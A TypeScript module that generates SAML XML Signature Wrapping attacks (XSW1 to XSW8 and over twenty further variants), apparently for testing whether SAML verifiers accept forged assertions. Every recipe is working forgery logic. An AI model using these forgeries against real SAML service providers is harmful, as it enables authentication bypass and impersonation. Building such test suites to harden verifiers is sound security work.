import {
  attributeOf,
  childOf,
  cloneModel,
  type ElementModel,
  element,
  find,
  findAll,
  insertAfter,
  insertBefore,
  parentOf,
  prefixOf,
  removeFrom,
  replaceIn,
  setAttribute,
} from '../generators/xml-model.ts';
import type { AttackBase, AttackRecipe } from './attack.ts';

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';

function tagLike(sibling: ElementModel, local: string): string {
  const prefix = prefixOf(sibling.name);
  return prefix === '' ? local : `${prefix}:${local}`;
}

/** Keeps the namespaces that the moved element found above it. */
function carrying(context: ElementModel, moved: ElementModel): ElementModel {
  for (const [name, value] of context.attributes)
    if (name.startsWith('xmlns') && attributeOf(moved, name) === undefined)
      moved.attributes.push([name, value]);
  return moved;
}

const whereRootIsSigned =
  (make: (base: AttackBase) => ElementModel | undefined) =>
  (base: AttackBase): ElementModel | undefined =>
    base.rootIsSigned ? make(base) : undefined;
const whereInnerIsSigned =
  (make: (base: AttackBase) => unknown) =>
  (base: AttackBase): ElementModel | undefined => {
    if (base.rootIsSigned) return undefined;
    make(base);
    return base.root;
  };

/** The forged root with the signature where the original had it. */
function forgedRoot(base: AttackBase, id: 'new' | 'same', signature: ElementModel): ElementModel {
  const evil = base.evil(id);
  evil.children.splice(base.signed.children.indexOf(base.signature), 0, signature);
  return evil;
}

function forgedInner(base: AttackBase, id: 'new' | 'same', signature: ElementModel): ElementModel {
  const evil = base.evil(id);
  evil.children.splice(Math.min(1, evil.children.length), 0, signature);
  return evil;
}

function object(base: AttackBase, ...content: ElementModel[]): ElementModel {
  return element(tagLike(base.signature, 'Object'), {}, ...content);
}

/** XSW1 to XSW8 of "On Breaking SAML" (Somorovsky and others, USENIX Security 2012), with the ID renamed and kept. */
const NUMBERED: readonly AttackRecipe[] = (['new', 'same'] as const).flatMap((id) => [
  {
    name: `XSW1 the signed root inside its signature, under a forged root (${id} id)`,
    make: whereRootIsSigned((base) => {
      const signature = cloneModel(base.signature);
      signature.children.push(base.signedWithoutSignature());
      return forgedRoot(base, id, signature);
    }),
  },
  {
    name: `XSW2 the signed root beside its signature, under a forged root (${id} id)`,
    make: whereRootIsSigned((base) => {
      const evil = forgedRoot(base, id, cloneModel(base.signature));
      insertBefore(evil, find(evil, 'Signature'), base.signedWithoutSignature());
      return evil;
    }),
  },
  {
    name: `XSW3 a forged element before the signed one (${id} id)`,
    make: whereInnerIsSigned((base) => insertBefore(base.root, base.signed, base.evil(id))),
  },
  {
    name: `XSW4 the signed element inside the forged one (${id} id)`,
    make: whereInnerIsSigned((base) => {
      const evil = base.evil(id);
      replaceIn(base.root, base.signed, evil);
      evil.children.push(base.signed);
    }),
  },
  {
    name: `XSW5 the signature in the forged element, the signed one at the end (${id} id)`,
    make: whereInnerIsSigned((base) => {
      const bare = base.signedWithoutSignature();
      const parent = parentOf(base.root, base.signed);
      replaceIn(base.root, base.signed, forgedInner(base, id, cloneModel(base.signature)));
      parent.children.push(bare);
    }),
  },
  {
    name: `XSW6 the signed element inside the signature of the forged one (${id} id)`,
    make: whereInnerIsSigned((base) => {
      const signature = cloneModel(base.signature);
      signature.children.push(base.signedWithoutSignature());
      replaceIn(base.root, base.signed, forgedInner(base, id, signature));
    }),
  },
  {
    name: `XSW7 a forged element in Extensions (${id} id)`,
    make: whereInnerIsSigned((base) => {
      const extensions = element('wrap:Extensions', { 'xmlns:wrap': PROTOCOL }, base.evil(id));
      insertBefore(base.root, base.signed, extensions);
    }),
  },
  {
    name: `XSW8 the signed element in an Object of the forged one's signature (${id} id)`,
    make: whereInnerIsSigned((base) => {
      const signature = cloneModel(base.signature);
      signature.children.push(object(base, base.signedWithoutSignature()));
      replaceIn(base.root, base.signed, forgedInner(base, id, signature));
    }),
  },
]);

/** The same idea in other places: whatever the enveloped signature leaves uncovered, or nobody expects to be read. */
const PLACES: readonly AttackRecipe[] = [
  {
    name: 'a forged element after the signed one',
    make: whereInnerIsSigned((base) => insertAfter(base.root, base.signed, base.evil())),
  },
  {
    name: 'a forged element as the first of the message',
    make: whereInnerIsSigned((base) => base.root.children.unshift(carrying(base.root, base.evil()))),
  },
  {
    name: 'a forged assertion in the Object of a good signature',
    make: (base) => {
      base.signature.children.push(object(base, base.evilAssertion() ?? base.evil()));
      return base.root;
    },
  },
  {
    name: 'a forged assertion in the KeyInfo of a good signature',
    make: (base) => {
      const keyInfo = childOf(base.signature, 'KeyInfo');
      if (keyInfo === undefined) return undefined;
      keyInfo.children.push(base.evilAssertion() ?? base.evil());
      return base.root;
    },
  },
  {
    name: 'a forged assertion as a plain child of a good signature',
    make: (base) => {
      base.signature.children.push(base.evilAssertion() ?? base.evil());
      return base.root;
    },
  },
  {
    name: 'a forged assertion inside SignatureValue',
    make: (base) => {
      find(base.signature, 'SignatureValue').children.push(base.evilAssertion() ?? base.evil());
      return base.root;
    },
  },
  {
    name: 'a forged assertion in StatusDetail',
    make: whereInnerIsSigned((base) => {
      const status = childOf(base.root, 'Status') ?? base.root;
      status.children.push(element('wrap:StatusDetail', { 'xmlns:wrap': PROTOCOL }, base.evil()));
    }),
  },
  {
    name: 'a forged assertion in an element of no known namespace',
    make: whereInnerIsSigned((base) =>
      insertBefore(base.root, base.signed, element('x:Any', { 'xmlns:x': 'urn:example:any' }, base.evil())),
    ),
  },
  {
    name: 'the signed element in the Advice of the forged one',
    make: whereInnerIsSigned((base) => {
      const evil = base.evil();
      replaceIn(base.root, base.signed, evil);
      evil.children.push(element(tagLike(base.signed, 'Advice'), {}, base.signed));
    }),
  },
  {
    name: 'the signature moved to the forged element, the signed one in its Advice',
    make: whereInnerIsSigned((base) => {
      const evil = forgedInner(base, 'new', cloneModel(base.signature));
      evil.children.push(element(tagLike(base.signed, 'Advice'), {}, base.signedWithoutSignature()));
      replaceIn(base.root, base.signed, evil);
    }),
  },
  {
    name: 'the signed element in an AttributeValue of the forged one',
    make: whereInnerIsSigned((base) => {
      const evil = base.evil();
      replaceIn(base.root, base.signed, evil);
      find(evil, 'AttributeValue').children.push(base.signed);
    }),
  },
  {
    name: 'the signed element hidden in an unknown element beside the forged one',
    make: whereInnerIsSigned((base) =>
      replaceIn(
        base.root,
        base.signed,
        base.evil(),
        element('x:Hidden', { 'xmlns:x': 'urn:example:hidden' }, base.signed),
      ),
    ),
  },
  {
    name: 'the signature outside the element it references',
    make: whereInnerIsSigned((base) => {
      const signature = cloneModel(base.signature);
      const bare = base.signedWithoutSignature();
      replaceIn(base.root, base.signed, signature, base.evil(), bare);
    }),
  },
  {
    name: 'a good signed message nested in a forged unsigned one',
    make: whereRootIsSigned((base) => {
      const evil = base.evil();
      evil.children.push(element('wrap:Extensions', { 'xmlns:wrap': PROTOCOL }, base.signed));
      return evil;
    }),
  },
  {
    name: 'a forged unsigned message around the signed root as it is',
    make: whereRootIsSigned((base) => {
      const evil = base.evil();
      evil.children.push(base.signed);
      return evil;
    }),
  },
  {
    name: 'an unsigned subject and attributes beside the signed assertion',
    make: whereInnerIsSigned((base) => {
      const evil = base.evil();
      for (const local of ['Subject', 'AttributeStatement']) {
        const part = childOf(evil, local);
        if (part) insertBefore(base.root, base.signed, carrying(base.root, carrying(evil, part)));
      }
    }),
  },
  {
    name: 'a second message whose ID differs in case only, before the signed element',
    make: whereInnerIsSigned((base) => {
      const evil = base.evil();
      setAttribute(evil, base.idAttribute, base.id.toUpperCase());
      insertBefore(base.root, base.signed, evil);
    }),
  },
  {
    name: 'the forged element claims the signed ID by xml:id',
    make: whereInnerIsSigned((base) => {
      const evil = forgedInner(base, 'new', cloneModel(base.signature));
      setAttribute(evil, 'xml:id', base.id);
      replaceIn(base.root, base.signed, evil, base.signedWithoutSignature());
    }),
  },
  {
    name: 'the forged element claims the signed ID by another ID attribute',
    make: whereInnerIsSigned((base) => {
      const evil = forgedInner(base, 'new', cloneModel(base.signature));
      const other = attributeOf(evil, 'Id') === undefined ? 'Id' : 'ID';
      setAttribute(evil, other, base.id);
      replaceIn(base.root, base.signed, evil, base.signedWithoutSignature());
    }),
  },
  {
    name: 'the forged root claims the signed ID by Id, the signed one inside its signature',
    make: whereRootIsSigned((base) => {
      const signature = cloneModel(base.signature);
      signature.children.push(object(base, base.signedWithoutSignature()));
      const evil = forgedRoot(base, 'new', signature);
      setAttribute(evil, 'Id', base.id);
      return evil;
    }),
  },
  {
    name: 'the signature removed from the signed element',
    make: (base) => {
      // What is encrypted may be signed inside, and then still is.
      if (findAll(base.root, 'EncryptedAssertion').length > 0) return undefined;
      for (const signature of findAll(base.root, 'Signature')) removeFrom(base.root, signature);
      return base.root;
    },
  },
];

export const WRAPPING_ATTACKS: readonly AttackRecipe[] = [...NUMBERED, ...PLACES];
